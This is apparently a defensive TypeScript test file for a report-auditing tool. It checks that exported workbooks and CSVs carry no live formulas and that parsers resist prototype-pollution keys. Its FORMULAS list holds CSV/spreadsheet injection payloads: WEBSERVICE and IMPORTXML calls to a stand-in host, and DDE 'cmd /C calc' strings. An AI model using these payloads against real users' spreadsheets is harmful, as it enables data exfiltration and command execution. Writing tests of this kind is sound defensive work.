import { strFromU8, strToU8, unzipSync } from 'fflate';
import { auditSnapshot } from '../../../src/audit/audit-snapshot.ts';
import { auditCsv } from '../../../src/cli/format/audit-csv.ts';
import type { AuditResult } from '../../../src/model/audit-result.ts';
import type { Scorecard } from '../../../src/model/scorecard.ts';
import { theKnowledge } from '../../the-knowledge.ts';
import { type FaultRow, told, zero } from '../fault-row.ts';
import { docxOf, xlsxOf } from './bombs.ts';
import { hostileReaders, snapshotOf } from './read-hostile.ts';
import { seedDocuments } from './seed-documents.ts';

const MARK = 'evil-93c1.invalid';

/** What a spreadsheet would run when a cell began with it. */
const FORMULAS = [
  `=1+1&"${MARK}"`,
  `+1+1&"${MARK}"`,
  `-1+1&"${MARK}"`,
  `@SUM(1,2)&"${MARK}"`,
  `=HYPERLINK("http://${MARK}/","x")`,
  `=WEBSERVICE("http://${MARK}/")`,
  `=IMPORTXML("http://${MARK}/","//a")`,
  `=cmd|' /C calc'!A0&"${MARK}"`,
  `DDE("cmd","/C calc","${MARK}")`,
  `\t=1+1&"${MARK}"`,
  `\r=1+1&"${MARK}"`,
  `\n=1+1&"${MARK}"`,
  ` =1+1&"${MARK}"`,
  `＝1+1&"${MARK}"`,
  `"=1+1&"${MARK}"`,
  `'=1+1&"${MARK}"`,
  `{=1+1&"${MARK}"}`,
  `%0A-3+3+cmd|' /C calc'!D2${MARK}`,
] as const;

const escapeXml = (text: string): string => text.replace(/[&<>"]/g, (char) => `&#${char.charCodeAt(0)};`);

/** The good page with a formula in its title, its headings, its labels, its figures and its prose. */
const poisoned = (page: string, formula: string): string => {
  const text = escapeXml(formula);
  let cells = 0;
  return page
    .replace(/(<h1[^>]{0,100}>)/, `$1${text}`)
    .replace(/(<h2[^>]{0,100}>|<p[^>]{0,100}>)/g, `$1${text} `)
    .replace(/(<td[^>]{0,100}>)/g, (tag) => {
      cells += 1;
      return cells % 7 === 0 ? `${tag}${text}` : tag;
    });
};

const scorecardOf = (result: AuditResult, language: 'zh' | 'en'): Scorecard => ({
  office: {
    id: 'a',
    name: result.identity.officeName ?? '',
    level: 'county',
    parent: null,
    profile: 'default',
    reportPage: null,
    mail: null,
    aliases: [],
  },
  year: result.identity.period.year,
  runId: 'r',
  date: '2026-01-31',
  ruleset: { name: 'r', version: '1', hash: 'h' },
  result,
  template: theKnowledge().templates.find(({ id }) => id === result.template) ?? null,
  findings: result.findings.map((finding) => ({ finding, firstSeen: '2026-01-31', deadline: null })),
  resolved: [],
  deadline: null,
  language,
});

type Danger = { formulas: number; links: number; cells: number; books: number; mentions: number };

const lookIntoBook = (workbook: Uint8Array, danger: Danger): void => {
  danger.books += 1;
  for (const [name, bytes] of Object.entries(unzipSync(workbook))) {
    const xml = strFromU8(bytes);
    if (xml.includes(MARK)) danger.mentions += 1;
    for (const [, formula = ''] of xml.matchAll(/<f(?:\s[^>]{0,200})?>([^<]{0,9000})<\/f>/g)) {
      if (/evil-93c1|HYPERLINK|WEBSERVICE|IMPORT|cmd\|/i.test(formula)) danger.formulas += 1;
    }
    if (name.endsWith('.rels') && (xml.includes(MARK) || xml.includes('TargetMode="External"'))) danger.links += 1;
    if (/externalLinks?\/|ddeLink|oleLink/.test(name)) danger.links += 1;
  }
};

/** The first character of each field of a CSV (RFC 4180) that would be run. */
const lookIntoCsv = (csv: string, danger: Danger): void => {
  for (const [, quoted, bare] of csv.matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^",\r\n]*))/gm)) {
    const field = (quoted ?? bare ?? '').replaceAll('""', '"');
    if (/^[=+\-@\t\r]/.test(field) && field.includes(MARK)) danger.cells += 1;
  }
};

const measure: FaultRow['measure'] = async () => {
  const page = strFromU8(seedDocuments().find(({ format }) => format === 'html')!.bytes);
  const readers = hostileReaders(1);
  const danger: Danger = { formulas: 0, links: 0, cells: 0, books: 0, mentions: 0 };
  try {
    for (const formula of FORMULAS) {
      const audited = await readers.audit(snapshotOf(strToU8(poisoned(page, formula)), `${formula}.html`), null);
      if ('failure' in audited) continue;
      for (const language of ['zh', 'en'] as const) {
        lookIntoBook(await readers.buildWorkbook(scorecardOf(audited.result, language)), danger);
        const batch = { ruleset: theKnowledge().ruleset, results: [audited.result], failures: [] };
        lookIntoCsv(auditCsv(batch, language).join(''), danger);
      }
    }
  } finally {
    await readers.close();
  }
  return [
    told('workbooks', danger.books),
    { ...told('parts of workbooks with the text of the report', danger.mentions), isMet: danger.mentions > 0 },
    zero('live formulas born of data', danger.formulas),
    zero('external links', danger.links),
    zero('cells of the CSV that would be run', danger.cells),
  ];
};

export const formulaInjection: FaultRow = {
  row: 25,
  fault: 'a report holds formulas where text and figures are expected',
  promise: 'the office opens a harmless book',
  lacks: async () => null,
  measure,
};

const KEYS = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'valueOf',
  '__defineGetter__',
] as const;

const keyDocuments = (key: string): readonly Uint8Array[] => {
  const rows = `<tr><td>${key}</td><td>1</td></tr>`.repeat(5);
  return [
    strToU8(
      `<html ${key}="x"><head><meta name="${key}" content="x"></head><body><h1>${key}</h1><table ${key}=1>${rows}</table></body></html>`,
    ),
    strToU8(`# ${key}\n\n## ${key}\n\n| ${key} | polluted |\n| --- | --- |\n| ${key} | 1 |\n\n[${key}]: x\n`),
    docxOf(`<w:p><w:pPr><w:pStyle w:val="${key}"/></w:pPr><w:r><w:t>${key}</w:t></w:r></w:p>`, {
      [`word/${key}`]: strToU8('x'),
      'word/styles.xml': strToU8(
        `<w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:style w:styleId="${key}"><w:name w:val="${key}"/><w:basedOn w:val="${key}"/></w:style></w:styles>`,
      ),
    }),
    xlsxOf(`<row><c r="A1" t="inlineStr"><is><t>${key}</t></is></c><c r="B1"><v>1</v></c></row>`, {
      [`xl/${key}`]: strToU8('x'),
    }),
  ];
};

/** In this process, because it is this process's objects that are looked at. */
const measureKeys: FaultRow['measure'] = async () => {
  const page = strFromU8(seedDocuments().find(({ format }) => format === 'html')!.bytes);
  const before = Object.getOwnPropertyNames(Object.prototype).sort().join();
  let [tried, bugs] = [0, 0];
  for (const key of KEYS) {
    const labelled = strToU8(page.replace(/<td>[^<0-9]{2,30}<\/td>/g, `<td>${key}</td>`));
    for (const bytes of [labelled, ...keyDocuments(key)]) {
      tried += 1;
      await auditSnapshot(snapshotOf(bytes, key), theKnowledge(), null).catch(() => {
        bugs += 1;
      });
    }
  }
  const names = Array.from({ length: 100_000 }, (_, i) => `<td>k${i}</td>`).join('');
  const start = performance.now();
  await auditSnapshot(
    snapshotOf(strToU8(`<table>${names.replace(/((?:<td>[^<]{1,9}<\/td>){10})/g, '<tr>$1</tr>')}</table>`)),
    theKnowledge(),
    null,
  );
  const polluted = Object.getOwnPropertyNames(Object.prototype).sort().join() === before ? 0 : 1;
  return [
    told('documents', tried),
    zero('polluted', polluted),
    zero('bugs met', bugs),
    told('100,000 labels take', `${Math.round(performance.now() - start)} ms`),
  ];
};

export const strangeKeys: FaultRow = {
  row: 27,
  fault: "labels and names are those of the language's own objects",
  promise: 'they are text like any other',
  lacks: async () => null,
  measure: measureKeys,
};
